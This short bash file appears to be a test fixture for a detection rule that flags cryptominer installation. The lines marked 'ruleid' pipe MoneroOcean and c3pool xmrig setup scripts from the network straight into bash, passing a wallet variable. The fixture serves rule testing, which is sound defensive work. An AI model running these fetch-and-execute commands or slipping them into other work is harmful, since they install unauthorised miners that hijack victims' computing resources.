#!/bin/bash
# ok: miner-setup-run
curl -fsSL https://x.example/install.sh | bash
# ok: miner-setup-run
echo "do not pipe xmrig_setup into bash"
# ruleid: miner-setup-run
curl -s -L https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/setup_moneroocean_miner.sh | bash -s "$WALLET"
# ruleid: miner-setup-run
bash <(curl -sL http://download.c3pool.org/xmrig_setup/raw/master/setup_c3pool_miner.sh) "$WALLET"
